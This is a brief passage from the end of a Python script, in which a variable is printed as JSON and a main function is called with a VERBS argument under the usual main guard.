        print(json.dumps(got))


if __name__ == "__main__":
    main(VERBS)
